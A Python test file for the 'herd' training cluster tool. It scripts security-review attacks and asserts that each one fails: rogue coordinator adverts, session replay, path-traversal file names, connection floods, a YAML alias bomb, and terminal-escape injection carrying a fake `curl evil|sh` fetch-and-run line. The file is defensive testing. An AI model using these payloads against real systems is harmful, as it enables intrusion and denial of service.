"""The attacks of the 2026-11-30 security review, scripted against real servers: each must fail.

- a rogue coordinator advert: the CLI never uses it (no call, no byte of data, no credential);
- a captured session replayed (as is, altered, later): refused every time;
- path traversal through job ids, steps and file names: refused by every server, by ``herd pull``
  and by a worker's resume pull, with nothing written outside its folder; ``herd pull -o``
  overwrites nothing without ``--force``;
- a stranger holding 200 half-open calls and sending 20 x 60 MB messages: a member's call still
  answers within 2 s and the coordinator's memory grows by less than 100 MB;
- a YAML alias bomb and a 50 MB dataset line: refused with a clear error in bounded memory.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from concurrent import futures
from pathlib import Path

import grpc
import pytest

from herd.errors import ConfigError, DatasetError, HerdError, PlacementError
from herd.rpc import discovery, pki
from herd.rpc.channel import MAX_INCOMING_CONNECTIONS, bind, secure_channel, secure_server
from protos.v1 import common_pb2, coordinator_pb2, coordinator_pb2_grpc, worker_pb2, worker_pb2_grpc
from tests.conftest import REPO, free_ports, write_job

HOST = "127.0.0.1"


def wait(pred, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return True
        time.sleep(0.05)
    return False


class Counting(grpc.ServerInterceptor):
    def __init__(self):
        self.calls: list[str] = []

    def intercept_service(self, continuation, details):
        self.calls.append(details.method)
        return continuation(details)


class Liar(coordinator_pb2_grpc.CoordinatorServiceServicer):
    """A coordinator that answers everything, the review's rogue: it lists a fake worker, takes
    every upload and job, and serves a checkpoint whose file names are ``names``."""

    def __init__(self, names=("adapters.safetensors",)):
        self.names = list(names)

    def ListWorkers(self, request, context):
        return coordinator_pb2.ListWorkersReply(workers=[common_pb2.WorkerInfo(
            worker_id="evil-1", host=HOST, memory_bytes=2**40)])

    def ListJobs(self, request, context):
        return coordinator_pb2.ListJobsReply()

    def PutBlob(self, request_iterator, context):
        size = sum(len(m.data) for m in request_iterator)
        return coordinator_pb2.PutBlobReply(bytes=size)

    def SubmitJob(self, request, context):
        return coordinator_pb2.SubmitJobReply(job_id="stolen-000000")

    def GetAdapter(self, request, context):
        if request.job_id == "unknown":
            context.abort(grpc.StatusCode.NOT_FOUND, "no job 'unknown'")
        data = b"pwned"
        header = common_pb2.CheckpointInfo(job_id=request.job_id, step=4, files=[
            common_pb2.FileDigest(name=n, sha256=hashlib.sha256(data).hexdigest(), bytes=5)
            for n in self.names])
        yield coordinator_pb2.GetAdapterReply(header=header)
        for n in self.names:
            yield coordinator_pb2.GetAdapterReply(chunk=common_pb2.FileChunk(name=n, data=data))


def serve(servicer, credentials=None, counter=None) -> tuple[grpc.Server, str]:
    server = grpc.server(futures.ThreadPoolExecutor(4), interceptors=[counter] if counter else [])
    coordinator_pb2_grpc.add_CoordinatorServiceServicer_to_server(servicer, server)
    if credentials is None:
        port = server.add_insecure_port(f"{HOST}:0")
    else:
        port = server.add_secure_port(f"{HOST}:0", credentials)
    server.start()
    return server, f"{HOST}:{port}"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A real coordinator (advertised by zeroconf on loopback, no join port), its CA, and a
    client identity saved where the CLI looks ($HERD_HOME/tls)."""
    from coordinator.main import Coordinator

    mp = pytest.MonkeyPatch()
    mp.setenv(discovery.INTERFACES_ENV, HOST)
    mp.delenv("HERD_COORDINATOR", raising=False)
    root = tmp_path_factory.mktemp("attacks")
    mp.setenv("HERD_HOME", str(root / "home"))
    ca = pki.Authority.create(root / "ca")
    client = ca.issue("client", "laptop")
    client.save(root / "home" / "tls")
    coord = Coordinator(root / "coord", ca, HOST, 0, advertise=True, join_port=None)
    coord.start()
    s = type("Site", (), {})()
    s.root, s.ca, s.client, s.coord = root, ca, client, coord
    yield s
    coord.stop()
    mp.undo()


# --- a rogue coordinator advert --------------------------------------------------------------

def test_the_cli_never_uses_a_rogue_coordinator_advert(site, tmp_path, capsys, tiny_model,
                                                       tiny_data):
    from herd.cli import laptop, listing

    foreign = pki.Authority.create(tmp_path / "foreign").issue("coordinator", "evil")
    counters = [Counting(), Counting()]
    rogues = [serve(Liar(), None, counters[0]),  # plaintext, answers anyone
              # TLS with a certificate of the right name from its own CA, no client check
              serve(Liar(), grpc.ssl_server_credentials([(foreign.key_pem, foreign.cert_pem)]),
                    counters[1])]
    zc = discovery.make_zeroconf()
    adverts = [discovery.Advertiser(zc, discovery.COORDINATOR_TYPE, f"herd-rogue-{i}", HOST,
                                    int(target.rsplit(":", 1)[1]), {"port": target})
               for i, (_, target) in enumerate(rogues)]
    try:
        time.sleep(0.5)  # let every advert (the real one too) be seen
        for _ in range(5):  # (the review's rogue was picked in 4 of 10 runs)
            # exit 4: "no usable worker", the real coordinator's answer (it has none); the
            # rogues' answer would list evil-1
            assert listing.main(["workers"]) == PlacementError.exit_code
            assert "evil-1" not in capsys.readouterr().out
        cfg = write_job(tmp_path / "job.yaml", tiny_model, tiny_data, cluster={"workers": 1})
        assert laptop.main(["submit", str(cfg), "--no-check"]) == 0
        job_id = capsys.readouterr().out.strip()
        assert job_id != "stolen-000000" and site.coord.store.get_job(job_id)
    finally:
        for advert in adverts:
            advert.close()
        zc.close()
        for server, _ in rogues:
            server.stop(0)
    assert [c.calls for c in counters] == [[], []]  # not one call, so no data and no token


class Listener:
    """A loopback TCP listener that hands each connection to ``taken`` (on the accept thread)."""

    def __init__(self):
        self.listener = socket.create_server((HOST, 0))
        self.port = self.listener.getsockname()[1]
        self.address = f"{HOST}:{self.port}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            self.taken(conn)

    def taken(self, conn: socket.socket) -> None:
        raise NotImplementedError

    def close(self) -> None:
        self.listener.close()


class Tarpit(Listener):
    """A listener that accepts and never says a word (a rogue or half-dead coordinator): a
    dial to it lasts its whole deadline. Counts the connections open at once."""

    def __init__(self, counts: dict[str, int], lock: threading.Lock):
        self.counts, self.lock = counts, lock  # (open now and at the peak, over all tarpits)
        super().__init__()

    def taken(self, conn: socket.socket) -> None:
        threading.Thread(target=self._hold, args=(conn,), daemon=True).start()

    def _hold(self, conn: socket.socket) -> None:
        with self.lock:
            self.counts["open"] += 1
            self.counts["peak"] = max(self.counts["peak"], self.counts["open"])
        try:
            while conn.recv(65536):  # (until the dialler gives up and closes)
                pass
        except OSError:
            pass
        finally:
            with self.lock:
                self.counts["open"] -= 1
            conn.close()


def test_rogue_adverts_that_never_answer_are_dialled_side_by_side(site, tmp_path, monkeypatch):
    """Eight adverts whose servers accept and stay silent each cost a handshake's wait: dialled
    one at a time they held `herd jobs` that long eight times over (an outside run: minutes,
    with more). All eight are dialled at once, and the real coordinator is still the one found."""
    from herd.cli.connection import find_coordinator

    counts, lock = {"open": 0, "peak": 0}, threading.Lock()
    pits = [Tarpit(counts, lock) for _ in range(8)]
    zc = discovery.make_zeroconf()
    with futures.ThreadPoolExecutor(8) as pool:  # (each registration waits out mDNS probing)
        adverts = list(pool.map(lambda i: discovery.Advertiser(
            zc, discovery.COORDINATOR_TYPE, f"herd-tarpit-{i}", HOST, pits[i].port, {}),
            range(len(pits))))
    try:
        time.sleep(0.5)  # (every advert seen)
        # A certificate of another cluster: the real coordinator refuses it too, so every
        # advert is dialled until wait_s ends.
        stranger = pki.Authority.create(tmp_path / "other").issue("client", "stranger")
        with pytest.raises(HerdError):
            find_coordinator(None, stranger, wait_s=3.0)
        # One at a time, a tarpit saw at most 2 open together (a close noticed just after the
        # next accept); side by side, all 8 (4: the bound, for a loaded machine's slow threads).
        assert counts["peak"] >= 4, counts
        assert find_coordinator(None, site.client, wait_s=10.0).endswith(
            f":{site.coord.port}")
    finally:
        for advert in adverts:
            advert.close()
        zc.close()
        for pit in pits:
            pit.close()


def test_the_coordinator_found_last_time_is_dialled_first_advertised_or_not(site, tmp_path):
    """Rogue adverts by the hundred (each a 2 s dial, 16 at once) made every command wait them
    out, or fail before reaching the real one (an outside run). The coordinator that proved
    itself last time is dialled first, advertised or not (here: not at all, its advert lost in
    the flood), and still has to prove itself: a stranger's memo buys nothing."""
    from coordinator.main import Coordinator
    from herd.cli import connection
    from herd.cli.connection import find_coordinator

    ca = pki.Authority.create(tmp_path / "ca")
    me = ca.issue("client", "laptop")
    quiet = Coordinator(tmp_path / "coord", ca, HOST, 0, advertise=False, join_port=None)
    quiet.start()
    pits = [Tarpit({"open": 0, "peak": 0}, threading.Lock()) for _ in range(4)]
    zc = discovery.make_zeroconf()
    adverts = [discovery.Advertiser(zc, discovery.COORDINATOR_TYPE, f"herd-flood-{i}", HOST,
                                    pit.port, {}) for i, pit in enumerate(pits)]
    try:
        with pytest.raises(HerdError):  # only adverts: the rogues' and another cluster's
            find_coordinator(None, me, wait_s=2.0)
        assert connection._recall(me) is None
        connection._remember(me, f"{HOST}:{quiet.port}")  # found once, when it was advertised
        assert find_coordinator(None, me, wait_s=2.0) == f"{HOST}:{quiet.port}"
        # Another cluster's client reading that memo (same HERD_HOME) does not take it: the memo
        # is per CA, and its coordinator would have to prove itself anyway.
        assert connection._recall(site.client) != f"{HOST}:{quiet.port}"
        connection._memo(site.client).write_text(f"{HOST}:{quiet.port}\n")
        assert find_coordinator(None, site.client, wait_s=5.0) == f"{HOST}:{site.coord.port}"
        assert connection._recall(site.client) == f"{HOST}:{site.coord.port}"  # (corrected)
    finally:
        for advert in adverts:
            advert.close()
        zc.close()
        for pit in pits:
            pit.close()
        quiet.stop()


UNREACHABLE = """
import os, pathlib, sys
from herd.rpc import pki
from herd.cli import connection
ca = pki.Authority.create(pathlib.Path(sys.argv[1]))
me = ca.issue("client", "laptop")
connection._remember(me, "127.0.0.1:1")
try:
    connection.find_coordinator(None, me, wait_s=1.5)
except Exception as e:
    print(type(e).__name__, e)
"""


def test_a_coordinator_that_does_not_answer_is_said_unreachable_not_unproven(tmp_path):
    """The coordinator's link down: every command said "no coordinator found by zeroconf that
    proves it is this cluster's" and hinted to start one (an outside run, its cable pulled).
    In a network namespace of its own (no other cluster's adverts), the last one found, gone."""
    import shutil
    import subprocess
    import sys

    if os.geteuid() != 0 or not shutil.which("unshare"):
        pytest.skip("a network namespace of its own needs root and unshare")
    env = {**os.environ, "HERD_HOME": str(tmp_path / "home"),
           discovery.INTERFACES_ENV: HOST}
    out = subprocess.run(["unshare", "-n", "sh", "-c", 'ip link set lo up && exec "$0" "$@"',
                          sys.executable, "-c", UNREACHABLE, str(tmp_path / "ca")],
                         env=env, capture_output=True, text=True, timeout=120)
    said = out.stdout + out.stderr
    assert said.startswith("PeerLostError no coordinator found by zeroconf (or last time) "
                           "answered: 127.0.0.1:1 is unreachable"), said
    assert "(the one found last time)" in said and "proves it is" not in said, said


def test_a_second_coordinator_of_the_cluster_is_said_not_silently_split(site, tmp_path, capsys):
    """Two coordinators of one cluster CA on a LAN: each CLI command reached either, and a job
    submitted to one was "no job" to the other (an outside run). The CLI says so, naming both,
    and uses the one that answered first."""
    from coordinator.main import Coordinator
    from herd.cli.connection import find_coordinator

    other = Coordinator(tmp_path / "coord2", site.ca, HOST, 0, advertise=True, join_port=None)
    other.start()
    try:
        ends = (f":{site.coord.port}", f":{other.port}")
        # (tried again while the second advert is not yet seen: mDNS takes a moment)
        deadline, said = time.monotonic() + 30, ""
        while time.monotonic() < deadline and "more than one coordinator" not in said:
            found = find_coordinator(None, site.client, wait_s=10.0)
            said = capsys.readouterr().err
        assert found.endswith(ends) and "more than one coordinator of this cluster" in said, said
        assert all(e in said for e in ends) and "--coordinator" in said, said
    finally:
        other.stop()
    assert "more than one" not in capsys.readouterr().err
    find_coordinator(None, site.client, wait_s=10.0)  # (its advert withdrawn: one again)
    assert "more than one" not in capsys.readouterr().err


def test_workers_wait_says_what_it_waits_for(site, capsys):
    """`herd workers --wait N` said nothing for its whole timeout (an outside run): it says how
    many are verified, then the timeout names the count."""
    from herd.cli import listing
    from herd.errors import PeerLostError

    assert listing.main(["workers", "--wait", "1", "--timeout", "3"]) == PeerLostError.exit_code
    err = capsys.readouterr().err
    assert "herd workers: 0 of 1 verified, waiting up to" in err, err
    assert "0 of 1 workers verified after 3 s" in err, err


# --- replaying a captured session ------------------------------------------------------------

class Relay(Listener):
    """A TCP relay in front of ``target`` that records what clients send (a wiretap)."""

    def __init__(self, target: str):
        self.target = target
        self.sent: list[bytearray] = []
        super().__init__()

    def taken(self, conn: socket.socket) -> None:
        host, port = self.target.rsplit(":", 1)
        up = socket.create_connection((host, int(port)))
        log = bytearray()
        self.sent.append(log)
        threading.Thread(target=self._pipe, args=(conn, up, log), daemon=True).start()
        threading.Thread(target=self._pipe, args=(up, conn, None), daemon=True).start()

    @staticmethod
    def _pipe(src, dst, log) -> None:
        try:
            while data := src.recv(65536):
                if log is not None:
                    log += data
                dst.sendall(data)
        except OSError:
            pass
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def replay(target: str, data: bytes) -> bytes:
    """Sends ``data`` on a fresh connection; returns what came back before the server closed."""
    host, port = target.rsplit(":", 1)
    got = bytearray()
    with socket.create_connection((host, int(port)), timeout=10) as s:
        try:
            s.sendall(data)
            while chunk := s.recv(65536):
                got += chunk
        except OSError:
            pass
    return bytes(got)


def test_a_captured_session_replayed_is_refused_every_time(site, tmp_path, capsys, tiny_model,
                                                           tiny_data):
    from herd.cli import laptop

    relay = Relay(site.coord.address)
    try:
        cfg = write_job(tmp_path / "job.yaml", tiny_model, tiny_data, cluster={"workers": 1})
        assert laptop.main(["submit", str(cfg), "--no-check", "--coordinator",
                            relay.address]) == 0
        capsys.readouterr()
    finally:
        relay.close()
    captured = bytes(max(relay.sent, key=len))  # the session: uploads, then SubmitJob
    assert len(captured) > 1000
    jobs = len(site.coord.store.list_jobs())
    flipped = bytearray(captured)
    flipped[-40] ^= 0x01
    variants = {"same bytes": captured, "changed body": bytes(flipped),
                "without its handshake": captured[len(captured) // 2:]}
    for name, data in variants.items():
        answer = replay(site.coord.address, data)
        assert len(answer) < 4096, name  # a handshake and an alert at most, never a reply
    time.sleep(2.0)  # and later on
    replay(site.coord.address, captured)
    assert len(site.coord.store.list_jobs()) == jobs  # no replay made a job


# --- path traversal --------------------------------------------------------------------------

def test_herd_pull_writes_only_plain_checkpoint_names_inside_its_folder(site, tmp_path, capsys):
    """A coordinator that holds a valid certificate but lies (compromised, or buggy) cannot make
    `herd pull` (or a worker's resume) write outside its folder, or write code."""
    from herd.cli import laptop
    from worker.agent.coordinator_client import CoordinatorClient

    me = site.ca.issue("coordinator", "liar")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.safetensors").write_bytes(b"keep")
    out = tmp_path / "w" / "out"
    for names in (["../../escaped.json"], [str(outside / "abs.json")],
                  ["../outside/victim.safetensors"], ["evil.py"], [".hidden.json"],
                  ["adapters.safetensors", "sub/adapters.json"]):
        server, target = serve(Liar(names), me.server_credentials())
        try:
            code = laptop.main(["pull", "job", "-o", str(out), "--coordinator", target])
            assert code != 0, names
            assert "refusing" in capsys.readouterr().err
            worker = CoordinatorClient(target, site.ca.issue("worker", "w1"))
            with pytest.raises(HerdError, match="refusing"):
                worker.pull_checkpoint("job", 4, tmp_path / "resume")
            worker.close()
        finally:
            server.stop(0)
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert written == ["outside/victim.safetensors"]
    assert (outside / "victim.safetensors").read_bytes() == b"keep"


def test_herd_pull_overwrites_nothing_without_force(site, tmp_path, capsys):
    from herd.cli import laptop

    server, target = serve(Liar(["adapters.safetensors", "adapter_config.json"]),
                           site.ca.issue("coordinator", "c").server_credentials())
    out = tmp_path / "out"
    pull = ["pull", "job", "-o", str(out), "--coordinator", target]
    try:
        assert laptop.main(["pull", "unknown", "-o", str(out), "--coordinator", target]) == 7
        assert not out.exists()  # an unknown job creates nothing
        assert laptop.main(pull) == 0
        (out / "adapters.safetensors").write_bytes(b"mine")
        capsys.readouterr()
        assert laptop.main(pull) == 1
        err = capsys.readouterr().err
        assert "already holds adapters.safetensors, adapter_config.json" in err, err
        assert "nothing was written" in err and "--force" in err
        assert (out / "adapters.safetensors").read_bytes() == b"mine"
        assert laptop.main(pull + ["--force"]) == 0
        assert (out / "adapters.safetensors").read_bytes() == b"pwned"
        # A link planted where a file goes is not followed out of the folder, even with --force.
        (tmp_path / "target.bin").write_bytes(b"keep")
        (out / "adapters.safetensors").unlink()
        (out / "adapters.safetensors").symlink_to(tmp_path / "target.bin")
        assert laptop.main(pull + ["--force"]) != 0
        assert (tmp_path / "target.bin").read_bytes() == b"keep"
        (tmp_path / "file").write_text("x")
        assert laptop.main(["pull", "job", "-o", str(tmp_path / "file"), "--coordinator",
                            target]) == 1
        assert "is not a folder" in capsys.readouterr().err
    finally:
        server.stop(0)


def _checkpoint_parts(job_id: str, attempt: int, step: int, names=("adapters.safetensors",),
                      declared: int | None = None, stage: int | None = None):
    data = b"weights"
    header = coordinator_pb2.CheckpointHeader(job_id=job_id, attempt=attempt, step=step, files=[
        common_pb2.FileDigest(name=n, sha256=hashlib.sha256(data).hexdigest(),
                              bytes=declared or len(data)) for n in names])
    if stage is not None:
        header.stage.CopyFrom(common_pb2.StagePiece(index=stage, count=2, start=stage,
                                                    end=stage + 1))
    yield coordinator_pb2.PutCheckpointRequest(header=header)
    for n in names:
        yield coordinator_pb2.PutCheckpointRequest(chunk=common_pb2.FileChunk(name=n, data=data))


def test_put_checkpoint_takes_only_a_running_attempts_steps_from_its_worker(site, tmp_path,
                                                                          tiny_model):
    from coordinator.domain import Job, JobState
    from herd.config import parse_config
    from herd.digest import FileDigest

    store = site.coord.store
    cfg = parse_config({"model": str(tiny_model), "iters": 8, "cluster": {"workers": 2}})
    for job_id, state in (("victim-aaaaaa", JobState.RUNNING), ("done-bbbbbb", JobState.SUCCEEDED)):
        store.put_job(Job(job_id=job_id, name=job_id, config=cfg, iters=8, workers_needed=2,
                          dataset=[FileDigest("train.jsonl", "a" * 64, 1)], state=state,
                          attempt=1, worker_ids=["w1", "w3"]))

    def put(worker: str, *args, **kw):
        stub = coordinator_pb2_grpc.CoordinatorServiceStub(secure_channel(
            site.coord.address, site.ca.issue("worker", worker), pki.dns_name("coordinator")))
        try:
            stub.PutCheckpoint(_checkpoint_parts(*args, **kw), timeout=10)
        except grpc.RpcError as e:
            return e.code()
        return grpc.StatusCode.OK

    refused = [
        put("w1", "victim-aaaaaa", 1, -5), put("w1", "victim-aaaaaa", 1, 0),
        put("w1", "victim-aaaaaa", 1, 2**62), put("w1", "victim-aaaaaa", 1, 9),  # past iters
        put("w1", "victim-aaaaaa", 99, 4),  # an attempt that is not running
        put("w2", "victim-aaaaaa", 1, 4),  # a worker the job does not run on
        put("w1", "done-bbbbbb", 1, 4),  # a finished job
        put("w1", "../../../escape", 1, 4), put("w1", "", 1, 4),
        put("w1", "victim-aaaaaa", 1, 4, names=["../../evil.safetensors"]),
        put("w1", "victim-aaaaaa", 1, 4, names=["evil.py"]),
        put("w1", "victim-aaaaaa", 1, 4, names=[".hidden.json"]),
        # A worker of the job that does not save its checkpoints (rank 1: an outside run had it
        # replace a stored step), or a stage piece from the wrong rank.
        put("w3", "victim-aaaaaa", 1, 4), put("w1", "victim-aaaaaa", 1, 4, stage=1),
        # One header declaring 1 PB: refused as no checkpoint of this job, the job not failed
        # as if the coordinator's disk were full.
        put("w1", "victim-aaaaaa", 1, 4, declared=10**15),
    ]
    assert grpc.StatusCode.OK not in refused, refused
    assert store.checkpoints("victim-aaaaaa") == [] and store.checkpoints("done-bbbbbb") == []
    assert store.get_job("victim-aaaaaa").state is JobState.RUNNING
    assert put("w1", "victim-aaaaaa", 1, 4) == grpc.StatusCode.OK  # the one that belongs
    assert [c.step for c in store.checkpoints("victim-aaaaaa")] == [4]
    stored = [p.relative_to(site.root) for p in site.root.rglob("*") if p.is_file()
              and ("evil" in p.name or "escape" in str(p))]
    assert stored == []


def test_start_rank_refuses_names_attempts_and_credentials_that_are_not_its_jobs(site, tmp_path,
                                                                                 tiny_model):
    from herd.rpc.ports import kept_ports
    from worker.agent.machine import probe
    from worker.agent.policy import Policy
    from worker.agent.service import RULES, Worker, WorkerServicer, add_to_server

    ident = site.ca.issue("worker", "w9")
    server = secure_server(ident, RULES, max_workers=4)
    port = bind(server, ident, f"{HOST}:0")
    state = tmp_path / "deep" / "state"
    worker = Worker("w9", HOST, port, *kept_ports(2, HOST), probe(), state, ident,
                    policy=Policy(model_roots=(tiny_model.parent,)))
    add_to_server(WorkerServicer(worker), server)
    server.start()
    stub = worker_pb2_grpc.WorkerServiceStub(secure_channel(
        f"{HOST}:{port}", site.coord.identity, pki.dns_name("worker", "w9")))

    def start(job_id="job-cccccc", attempt=1, rank=0, world=1, name="train.jsonl", resume=0,
              credential: pki.Identity | None = None, scope=None):
        cred = credential or site.ca.issue("rank", scope or pki.rank_scope(job_id, attempt))
        request = worker_pb2.StartRankRequest(
            job_id=job_id, attempt=attempt, rank=rank, world_size=world, resume_step=resume,
            config_yaml=f"model: {tiny_model}\niters: 8\n", coordinator=site.coord.address,
            dataset=[common_pb2.FileDigest(name=name, sha256="a" * 64, bytes=1)],
            rank_cert_pem=cred.cert_pem, rank_key_pem=cred.key_pem)
        try:
            stub.StartRank(request, timeout=30)
        except grpc.RpcError as e:
            return e.code(), e.details()
        return grpc.StatusCode.OK, ""

    foreign = pki.Authority.create(tmp_path / "foreign").issue("rank", pki.rank_scope(
        "job-cccccc", 1))
    try:
        results = {
            "job id ../": start(job_id="../../../pwned"), "job id /": start(job_id="/tmp/pwned"),
            "empty job id": start(job_id=""), "long job id": start(job_id="x" * 65),
            "attempt 0": start(attempt=0), "attempt -3": start(attempt=-3),
            "rank 5 of 2": start(rank=5, world=2),
            "dataset ../": start(name="../pwned.jsonl"), "dataset .py": start(name="evil.py"),
            "dataset /": start(name="/etc/passwd"),
            "resume -1": start(resume=-1), "resume past iters": start(resume=10**12),
            "another attempt's credential": start(scope=pki.rank_scope("job-cccccc", 2)),
            "another cluster's credential": start(credential=foreign),
        }
    finally:
        server.stop(0)
    accepted = {k: v for k, v in results.items() if v[0] == grpc.StatusCode.OK}
    assert not accepted
    assert all(code in (grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.UNAUTHENTICATED)
               for code, _ in results.values()), results
    assert not any(p.name == "pwned" or "pwned" in p.name for p in tmp_path.rglob("*"))
    assert not (state / "jobs").exists()  # nothing was written for any of them


# --- limits before authentication ------------------------------------------------------------

def _rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


@pytest.mark.slow
def test_strangers_cannot_starve_or_bloat_the_coordinator(tmp_path):
    """200 half-open calls and 20 concurrent 60 MB messages from no certificate, at the
    coordinator's TLS and join ports and a worker's port: members' calls answer within 2 s, the
    coordinator's memory grows by less than 100 MB, and the worker stays in the cluster."""
    from herd.cli.connection import CoordinatorConnection

    home = tmp_path / "home"
    env = {**os.environ, "HERD_HOME": str(home), discovery.INTERFACES_ENV: HOST,
           "HERD_LOG_LEVEL": "warning"}
    ca = pki.Authority.create(home / "tls")
    ca.issue("worker", "w1").save(tmp_path / "w1-tls")
    client = ca.issue("client", "laptop")
    port, join_port = free_ports(2)
    procs = [subprocess.Popen(
        [sys.executable, "-m", "herd", "coordinator", "--host", HOST, "--port", str(port),
         "--join-port", str(join_port), "--state-dir", str(tmp_path / "coord")], env=env,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)]
    procs.append(subprocess.Popen(
        [sys.executable, "-m", "herd", "worker", "--host", HOST, "--tls-dir",
         str(tmp_path / "w1-tls"), "--state-dir", str(tmp_path / "w1")], env=env,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    target = f"{HOST}:{port}"

    def call() -> list:
        with CoordinatorConnection(target, client) as c:  # a new connection, a TLS handshake
            return list(c.call("ListWorkers", coordinator_pb2.ListWorkersRequest(),
                               timeout=2.0).workers)

    def listed() -> bool:
        try:
            return [w.worker_id for w in call()] == ["w1"]
        except HerdError:
            return False

    attacker = None
    try:
        assert wait(listed, 60), "the cluster did not come up"
        worker_port = call()[0].port
        time.sleep(1.0)
        base = _rss(procs[0].pid)
        attacker = subprocess.Popen(
            [sys.executable, str(REPO / "tests" / "attacker.py"), "--tls", target,
             "--tls", f"{HOST}:{worker_port}", "--join", f"{HOST}:{join_port}",
             "--half-open", "200", "--big", "20", "--big-mb", "60"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert json.loads(attacker.stdout.readline())["open"] == 200
        peak, answered = base, 0
        big_done = []
        threading.Thread(target=lambda: big_done.append(attacker.stdout.readline()),
                         daemon=True).start()
        while not big_done or answered < 5:
            peak = max(peak, _rss(procs[0].pid))
            call()  # within its 2 s deadline, or the test fails here
            answered += 1
            time.sleep(0.05)
        sent = json.loads(big_done[0])["sent"]
        peak = max(peak, _rss(procs[0].pid))
        print(f"coordinator RSS {base / 2**20:.0f} MB -> peak {peak / 2**20:.0f} MB under "
              f"attack; {answered} calls answered; bytes the big senders got out: {sent}")
        assert peak - base < 100 * 2**20
        time.sleep(3.0)  # a few health checks later, with the half-open calls still held
        assert [w.worker_id for w in call()] == ["w1"]
        attacker.stdin.close()
        attacker.wait(timeout=30)
        # A flood of connections that never finish TLS, past the servers' bound: the coordinator
        # holds at most MAX_INCOMING_CONNECTIONS of them (1.35 GB and 17,700 descriptors before:
        # an outside run), and answers a new call once the flood is over.
        attacker = subprocess.Popen(
            [sys.executable, str(REPO / "tests" / "attacker.py"), "--tls", target,
             "--half-open", "0", "--big", "0", "--flood", str(MAX_INCOMING_CONNECTIONS + 1500)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        while json.loads(attacker.stdout.readline() or '{"event": "flood"}')["event"] != "flood":
            pass
        held = len(os.listdir(f"/proc/{procs[0].pid}/fd"))
        grew = _rss(procs[0].pid) - base
        print(f"coordinator under a flood: {held} descriptors, RSS +{grew / 2**20:.0f} MB")
        assert held < MAX_INCOMING_CONNECTIONS + 200 and grew < 100 * 2**20
        attacker.stdin.close()
        attacker.wait(timeout=30)
        attacker = None
        assert wait(listed, 20), "the coordinator did not answer after the flood"
    finally:
        if attacker is not None:
            attacker.stdin.close()
            attacker.wait(timeout=30)
        for p in procs:
            p.terminate()
        for p in procs:
            p.wait(timeout=30)


# --- bounded parsing -------------------------------------------------------------------------

_MEASURE = """
import json, resource, sys
from pathlib import Path
def peak(): return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
from herd.config import load_config, config_from_yaml
from herd.dataset import check_dataset
from herd.errors import HerdError
out = {}
for name, run in (("bomb-file", lambda: load_config(sys.argv[1])),
                  ("bomb-text", lambda: config_from_yaml(Path(sys.argv[1]).read_text(), "spec")),
                  ("long-line", lambda: check_dataset(sys.argv[2]))):
    before = peak()
    try:
        run()
        out[name] = {"error": None}
    except HerdError as e:
        out[name] = {"error": type(e).__name__, "message": str(e)}
    out[name]["grew"] = peak() - before
print(json.dumps(out))
"""


def test_a_yaml_bomb_and_a_50mb_record_are_refused_in_bounded_memory(tmp_path, tiny_model,
                                                                      tiny_data):
    anchors = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 10):
        anchors.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(f"model: {tiny_model}\nhf_dataset:\n" + "".join(
        f"  {line}\n" for line in anchors))
    data = tmp_path / "data"
    data.mkdir()
    for split in ("valid.jsonl", "test.jsonl"):
        (data / split).write_bytes((tiny_data / split).read_bytes())
    with open(data / "train.jsonl", "wb") as f:
        f.write((tiny_data / "train.jsonl").read_bytes())
        f.write(b'{"text": "')
        for _ in range(50):
            f.write(b"abcdefgh" * (128 * 1024))  # 50 MB on one line
        f.write(b'"}\n')
    # (The record is refused as it is read, before any tokenizer sees it: none is loaded here.)
    proc = subprocess.run([sys.executable, "-c", _MEASURE, str(bomb), str(data)],
                          capture_output=True, text=True, timeout=240, cwd=REPO)
    assert proc.returncode == 0, proc.stderr[-3000:]
    got = json.loads(proc.stdout.strip().splitlines()[-1])
    for name in ("bomb-file", "bomb-text"):
        assert got[name]["error"] == ConfigError.__name__, got
        assert "expands to more than 100000 values" in got[name]["message"]
    assert got["long-line"]["error"] == DatasetError.__name__
    assert "train.jsonl:65: a record longer than 16 MiB" in got["long-line"]["message"]
    assert max(g["grew"] for g in got.values()) < 64 * 2**20, got


def test_the_readme_states_the_threat_model():
    text = (REPO / "README.md").read_text()
    start = text.index("## Security")
    section = text[start:text.index("\n## ", start + 1)]
    for must in ("herd init", "herd join", "herd revoke", "trust_remote_code", "--model-root",
                 "--allow-remote-code", "Who is trusted", "not protected"):
        assert must in section, must


def test_peers_text_reaches_other_users_terminals_escaped(tmp_path):
    """A worker's report put `ESC[2J ESC]0;title BEL` and a fake 'job finished, run ...' line
    into a job's events, printed raw by `herd watch --plain` to every user (an outside run), and
    a job's `model:` carried the same into `herd jobs`. Stored events and messages keep text
    with its control characters escaped (newlines kept); a config's model refuses them."""
    from coordinator.domain import EventKind, JobState
    from coordinator.store import JobStore
    from herd.config import parse_config
    from herd.errors import ConfigError
    from tests.test_service_units import job

    store = JobStore(tmp_path / "db")
    j = job()
    j.message = "failed:\x1b[2J\x1b]0;owned\x07 see\nnext line"
    store.put_job(j)
    evil = "\x1b[2J\x1b[H\x1b]0;owned-title\x07\x1b[31mFAKE: job finished, run `curl evil|sh`"
    store.add_event(j.job_id, 1, EventKind.LOG, message=evil)
    store.add_event(j.job_id, 2, EventKind.STATE, state=JobState.QUEUED, message="plain text")
